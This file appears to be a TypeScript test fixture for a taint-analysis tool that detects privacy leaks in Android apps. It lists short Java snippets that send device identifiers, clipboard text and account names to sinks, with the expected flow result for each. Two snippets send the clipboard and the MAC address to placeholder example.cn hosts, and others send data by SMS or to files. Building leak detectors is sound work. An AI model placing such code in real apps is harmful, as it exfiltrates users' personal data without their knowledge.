import { type FlowRecipe, leak, none } from '../recipe.ts';
import { androidId, create, imei, imsi, line1, mac, main } from '../snippets.ts';

const here = 'MainActivity.onCreate';

export const sourcesAndSinks: readonly FlowRecipe[] = [
  {
    id: 'io-accounts',
    about: 'The names of all accounts.',
    java: main(`Account[] all = AccountManager.get(this).getAccounts(); for (int i = 0; i < all.length; i++) Log.d("acc", all[i].name);`),
    flows: [leak('accounts', here, 'log.d')],
  },
  {
    id: 'io-clipboard-in',
    about: 'What lies on the clipboard is opened as a page.',
    java: `class MainActivity extends Activity { ${create} WebView w = new WebView(this); setContentView(w); ClipData d = ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip(); w.loadUrl("https://s.example.cn/?q=" + d.getItemAt(0).getText()); } }`,
    flows: [leak('clipboard', here, 'web page')],
  },
  {
    id: 'io-script',
    about: 'As an argument of a script in a page.',
    java: main(`WebView w = new WebView(this); w.evaluateJavascript("setId('" + ${androidId} + "')", null);`),
    flows: [leak('android id', here, 'script')],
  },
  {
    id: 'io-http-header',
    about: 'In a header of a connection.',
    java: main(
      `try { URLConnection c = new URL("https://h.example.cn/").openConnection(); c.setRequestProperty("X-Device", ${mac}); c.connect(); } catch (IOException e) { finish(); }`,
    ),
    flows: [leak('mac', here, 'http header')],
  },
  {
    id: 'io-file-on-card',
    about: 'A file on the card, by a FileOutputStream.',
    java: main(
      `try { FileOutputStream o = new FileOutputStream(new File(Environment.getExternalStorageDirectory(), "id.txt")); o.write(${imei}.getBytes()); o.close(); } catch (IOException e) { finish(); }`,
    ),
    flows: [leak('imei', here, 'file stream')],
  },
  {
    id: 'io-buffered-writer',
    about: 'A writer over a writer over a stream.',
    java: main(
      `try { Writer w = new BufferedWriter(new OutputStreamWriter(openFileOutput("x", 0))); w.write(${line1}); w.close(); } catch (IOException e) { finish(); }`,
    ),
    flows: [leak('phone', here, 'file writer')],
  },
  {
    id: 'io-standard-output',
    about: 'System.out, which ends up in the log.',
    java: main(`System.out.println("imsi " + ${imsi});`),
    flows: [leak('imsi', here, 'stdout')],
  },
  {
    id: 'io-sms-number',
    about: 'The value is the number that the message goes to.',
    java: main(`SmsManager.getDefault().sendTextMessage(${line1}, null, "hello", null, null);`),
    flows: [leak('phone', here, 'sms')],
  },
  {
    id: 'io-wifi-name',
    about: 'The name of the network, and a fixed text beside it.',
    java: main(
      `WifiInfo w = ((WifiManager) getSystemService("wifi")).getConnectionInfo(); Log.d("ssid", w.getSSID()); Log.e("ssid", "read");`,
    ),
    flows: [leak('wifi name', here, 'log.d')],
    noFlows: [none('a constant', 'wifi name', here, 'log.e')],
  },
  {
    id: 'io-other-setting',
    about: 'A setting that is no identifier, read by the method that also reads the identifier.',
    java: main(`String z = Settings$Secure.getString(getContentResolver(), "location_mode"); Log.d("z", z);`),
    flows: [],
    noFlows: [none('the key is that of no personal data', 'android id', here, 'log.d')],
  },
];
